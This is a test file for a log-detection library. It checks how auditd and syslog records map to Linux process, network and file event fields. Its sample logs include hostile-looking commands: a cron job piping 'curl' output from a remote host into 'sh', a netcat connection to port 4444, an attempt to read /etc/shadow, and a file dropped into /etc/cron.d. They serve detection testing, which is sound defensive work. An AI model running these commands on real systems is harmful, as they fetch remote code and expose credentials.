import assert from 'node:assert/strict';
import { test } from 'node:test';
import { defaultResolver } from '../../../src/detect/mapping/index.ts';
import { eventOf, eventsOf, read, selected } from './helpers.ts';

/** Linux logsources: auditd (record keys and Sysmon-for-Linux names), syslog programs, sshd keywords. */

const EXECVE = [
  'type=SYSCALL msg=audit(1717236000.250:24287): arch=c000003e syscall=59 success=yes exit=0 a0=55d0c8e4b2a0 a1=55d0c8e4b3c0 a2=55d0c8e4b480 a3=8 items=2 ppid=4120 pid=4188 auid=1000 uid=1000 gid=1000 euid=1000 suid=1000 fsuid=1000 egid=1000 sgid=1000 fsgid=1000 tty=pts0 ses=3 comm="ls" exe="/usr/bin/ls" subj=unconfined key="exec-watch"\x1dARCH=x86_64 SYSCALL=execve AUID="alice" UID="alice"',
  'type=EXECVE msg=audit(1717236000.250:24287): argc=3 a0="ls" a1="-la" a2=2F746D70',
  'type=CWD msg=audit(1717236000.250:24287): cwd="/home/alice"',
  'type=PATH msg=audit(1717236000.250:24287): item=0 name="/usr/bin/ls" inode=1048602 dev=08:01 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL',
  'type=PATH msg=audit(1717236000.250:24287): item=1 name="/lib64/ld-linux-x86-64.so.2" inode=1057003 dev=08:01 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL',
  'type=PROCTITLE msg=audit(1717236000.250:24287): proctitle=6C73002D6C61002F746D70',
  'type=EOE msg=audit(1717236000.250:24287): ',
  '',
].join('\n');

const AUDITD = { product: 'linux', service: 'auditd' };
const LINUX_PROCESS = { product: 'linux', category: 'process_creation' };

function includes(value: unknown, wanted: string): boolean {
  return Array.isArray(value) ? value.includes(wanted) : value === wanted;
}

test('auditd rules read the keys of every record: type, a0…aN (hex decoded), name, SYSCALL, key, exe', async () => {
  const event = await eventOf('audit.log', EXECVE);
  assert.deepEqual(read(event, AUDITD, 'type'), ['SYSCALL', 'EXECVE', 'CWD', 'PATH', 'PATH', 'PROCTITLE']);
  assert.ok(includes(read(event, AUDITD, 'a0'), 'ls'));
  assert.ok(includes(read(event, AUDITD, 'a1'), '-la'));
  assert.ok(includes(read(event, AUDITD, 'a2'), '/tmp'), 'the hex-encoded argument is decoded');
  assert.equal(read(event, AUDITD, 'argc'), '3');
  assert.deepEqual(read(event, AUDITD, 'name'), ['/usr/bin/ls', '/lib64/ld-linux-x86-64.so.2']);
  assert.equal(read(event, AUDITD, 'SYSCALL'), 'execve');
  assert.equal(read(event, AUDITD, 'syscall'), '59', 'case matters for auditd: syscall is the number');
  assert.equal(read(event, AUDITD, 'key'), 'exec-watch');
  assert.equal(read(event, AUDITD, 'exe'), '/usr/bin/ls');
  assert.equal(read(event, AUDITD, 'comm'), 'ls');
  assert.equal(read(event, AUDITD, 'auid'), '1000');
  assert.equal(read(event, AUDITD, 'AUID'), 'alice');
  assert.equal(read(event, AUDITD, 'cwd'), '/home/alice');
  assert.equal(read(event, AUDITD, 'nosuchkey'), undefined);
  assert.ok(selected(event, AUDITD));
  assert.ok(selected(event, { product: 'linux' }));
  assert.ok(!selected(event, { product: 'linux', service: 'syslog' }));
});

test('auditd USER_* records: the PAM fields inside msg=\'…\' are record keys too', async () => {
  const event = await eventOf(
    'audit.log',
    "type=USER_AUTH msg=audit(1717236002.125:24301): pid=4302 uid=0 auid=4294967295 ses=4294967295 subj=system_u:system_r:sshd_t:s0-s0:c0.c1023 msg='op=PAM:authentication grantors=? acct=\"root\" exe=\"/usr/sbin/sshd\" hostname=198.51.100.23 addr=198.51.100.23 terminal=ssh res=failed'\n",
  );
  assert.deepEqual(read(event, AUDITD, 'type'), ['USER_AUTH']);
  assert.equal(read(event, AUDITD, 'op'), 'PAM:authentication');
  assert.equal(read(event, AUDITD, 'acct'), 'root');
  assert.equal(read(event, AUDITD, 'addr'), '198.51.100.23');
  assert.equal(read(event, AUDITD, 'res'), 'failed');
  assert.equal(read(event, AUDITD, 'exe'), '/usr/sbin/sshd');
  assert.equal(read(event, AUDITD, 'source.ip'), '198.51.100.23');
});

test('an auditd execve is a Linux process_creation with Sysmon-for-Linux names', async () => {
  const event = await eventOf('audit.log', EXECVE);
  assert.ok(selected(event, LINUX_PROCESS));
  assert.ok(selected(event, { category: 'process_creation' }));
  assert.ok(!selected(event, { product: 'windows', category: 'process_creation' }));
  assert.equal(read(event, LINUX_PROCESS, 'Image'), '/usr/bin/ls');
  assert.equal(read(event, LINUX_PROCESS, 'CommandLine'), 'ls -la /tmp');
  assert.equal(read(event, LINUX_PROCESS, 'CurrentDirectory'), '/home/alice');
  assert.equal(read(event, LINUX_PROCESS, 'LogonId'), '1000');
  assert.equal(read(event, LINUX_PROCESS, 'ParentImage'), undefined, 'auditd knows the parent pid only');
  assert.equal(defaultResolver.field('a0', LINUX_PROCESS), undefined, 'record keys are for service auditd rules');
});

const SOCKADDR = [
  'type=SYSCALL msg=audit(1717236100.000:500): arch=c000003e syscall=42 success=yes exit=0 a0=3 a1=7ffd2a a2=10 a3=0 items=0 ppid=100 pid=200 auid=1000 uid=1000 gid=1000 euid=1000 suid=1000 fsuid=1000 egid=1000 sgid=1000 fsgid=1000 tty=pts0 ses=3 comm="nc" exe="/usr/bin/nc.openbsd" key="network_connect_4"',
  'type=SOCKADDR msg=audit(1717236100.000:500): saddr=0200115CCB00710A0000000000000000',
  '',
].join('\n');

test('an auditd connect(2) with its SOCKADDR is a Linux network_connection to the decoded peer', async () => {
  const event = await eventOf('audit.log', SOCKADDR);
  const ls = { product: 'linux', category: 'network_connection' };
  assert.ok(selected(event, ls));
  assert.equal(read(event, ls, 'DestinationIp'), '203.0.113.10');
  assert.equal(read(event, ls, 'DestinationPort'), 4444);
  assert.equal(read(event, ls, 'Image'), '/usr/bin/nc.openbsd');
  assert.equal(read(event, ls, 'Initiated'), 'true');
  const exec = await eventOf('audit.log', EXECVE);
  assert.ok(!selected(exec, ls));
});

test('an auditd file creation (PATH nametype=CREATE) is a Linux file_event', async () => {
  const text = [
    'type=SYSCALL msg=audit(1717236200.000:600): arch=c000003e syscall=257 success=yes exit=3 a0=ffffff9c a1=55 a2=241 a3=1b6 items=2 ppid=1 pid=300 auid=0 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses=1 comm="bash" exe="/usr/bin/bash" key="cron"',
    'type=PATH msg=audit(1717236200.000:600): item=0 name="/etc/cron.d/" inode=10 dev=08:01 mode=040755 ouid=0 ogid=0 rdev=00:00 nametype=PARENT',
    'type=PATH msg=audit(1717236200.000:600): item=1 name="/etc/cron.d/evil" inode=11 dev=08:01 mode=0100644 ouid=0 ogid=0 rdev=00:00 nametype=CREATE',
    '',
  ].join('\n');
  const event = await eventOf('audit.log', text);
  const ls = { product: 'linux', category: 'file_event' };
  assert.ok(selected(event, ls));
  assert.equal(read(event, ls, 'TargetFilename'), '/etc/cron.d/evil');
  assert.equal(read(event, ls, 'Image'), '/usr/bin/bash');
  assert.ok(!selected(await eventOf('audit.log', EXECVE), ls));
});

const SYSLOG = [
  'Mar  3 09:15:01 web01 sshd[2101]: Failed password for root from 203.0.113.45 port 52144 ssh2',
  'Mar  3 09:20:00 web01 sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/id -u',
  'Mar  3 09:20:20 web01 sudo:      eve : user NOT in sudoers ; TTY=pts/2 ; PWD=/tmp ; USER=root ; COMMAND=/bin/cat /etc/shadow',
  'Mar  3 10:17:02 web01 CRON[6003]: (www-data) CMD (curl -s http://203.0.113.200/x.sh | sh)',
  'Mar  3 09:21:00 web01 su[4100]: Successful su for root by alice',
  'Mar  3 11:00:01 fw01 kernel: [86401.000001] IPTABLES-DROP: IN=eth0 OUT= MAC=52:54:00:12:34:56:52:54:00:ab:cd:ef:08:00 SRC=203.0.113.5 DST=192.0.2.10 LEN=40 TOS=0x00 PREC=0x00 TTL=50 ID=54322 PROTO=TCP SPT=44123 DPT=3389 WINDOW=1024 RES=0x00 SYN URGP=0',
  'Mar  3 11:05:00 ftp01 vsftpd[812]: Connection refused: too many sessions for this address.',
  '',
].join('\n');

async function syslogEvents() {
  const events = await eventsOf('syslog.log', SYSLOG);
  assert.equal(events.length, 7);
  const [sshd, sudo, denied, cron, su, netfilter, vsftpd] = events;
  assert.ok(sshd && sudo && denied && cron && su && netfilter && vsftpd);
  return { sshd, sudo, denied, cron, su, netfilter, vsftpd };
}

test('sudo and cron lines are Linux process starts: the command for sudo, the shell for cron', async () => {
  const { sudo, denied, cron, sshd } = await syslogEvents();
  assert.ok(selected(sudo, LINUX_PROCESS));
  assert.ok(!selected(denied, LINUX_PROCESS), 'a refused sudo started nothing');
  assert.ok(!selected(sshd, LINUX_PROCESS));
  assert.equal(read(sudo, LINUX_PROCESS, 'Image'), '/usr/bin/id');
  assert.equal(read(sudo, LINUX_PROCESS, 'CommandLine'), '/usr/bin/id -u');
  assert.equal(read(sudo, LINUX_PROCESS, 'User'), 'root');
  assert.equal(read(sudo, LINUX_PROCESS, 'ParentImage'), 'sudo');
  assert.equal(read(sudo, LINUX_PROCESS, 'CurrentDirectory'), '/home/alice');
  assert.ok(selected(cron, LINUX_PROCESS));
  assert.equal(read(cron, LINUX_PROCESS, 'Image'), '/bin/sh');
  assert.equal(read(cron, LINUX_PROCESS, 'CommandLine'), 'curl -s http://203.0.113.200/x.sh | sh');
  assert.equal(read(cron, LINUX_PROCESS, 'User'), 'www-data');
});

test('sudo service: the names of its own line (USER, COMMAND, PWD, TTY)', async () => {
  const { sudo, sshd } = await syslogEvents();
  const ls = { product: 'linux', service: 'sudo' };
  assert.ok(selected(sudo, ls));
  assert.ok(!selected(sshd, ls));
  assert.equal(read(sudo, ls, 'USER'), 'root');
  assert.equal(read(sudo, ls, 'COMMAND'), '/usr/bin/id -u');
  assert.equal(read(sudo, ls, 'PWD'), '/home/alice');
  assert.equal(read(sudo, ls, 'TTY'), 'pts/0');
  assert.equal(read(sudo, ls, 'user.name'), 'alice');
});

test('sshd, su, cron, auth and syslog services select their programs; our schema names work there', async () => {
  const { sshd, sudo, cron, su, netfilter, vsftpd } = await syslogEvents();
  const sshdSource = { product: 'linux', service: 'sshd' };
  assert.ok(selected(sshd, sshdSource));
  assert.ok(![sudo, cron, su, netfilter].some((e) => selected(e, sshdSource)));
  assert.equal(read(sshd, sshdSource, 'source.ip'), '203.0.113.45');
  assert.equal(read(sshd, sshdSource, 'user.name'), 'root');
  assert.equal(read(sshd, sshdSource, 'event.outcome'), 'failure');
  assert.equal(read(sshd, sshdSource, 'event.action'), 'ssh-login');
  assert.ok(selected(su, { product: 'linux', service: 'su' }));
  assert.ok(selected(cron, { product: 'linux', service: 'cron' }));
  const auth = { product: 'linux', service: 'auth' };
  assert.ok([sshd, sudo, su].every((e) => selected(e, auth)));
  assert.ok(![netfilter, vsftpd].some((e) => selected(e, auth)));
  assert.ok([sshd, sudo, cron, su, netfilter, vsftpd].every((e) => selected(e, { product: 'linux', service: 'syslog' })));
  assert.ok(selected(vsftpd, { product: 'linux', service: 'vsftpd' }), 'other services are the syslog program of that name');
  assert.ok(!selected(sshd, { product: 'linux', service: 'vsftpd' }));
  assert.equal(defaultResolver.field('NoSuchName', sshdSource), undefined, 'syslog services have closed tables');
});

test('sshd rules are keyword rules: keywords search the original line', async () => {
  const { sshd } = await syslogEvents();
  const text = defaultResolver.keywords(sshd);
  assert.equal(text, 'Mar  3 09:15:01 web01 sshd[2101]: Failed password for root from 203.0.113.45 port 52144 ssh2');
});
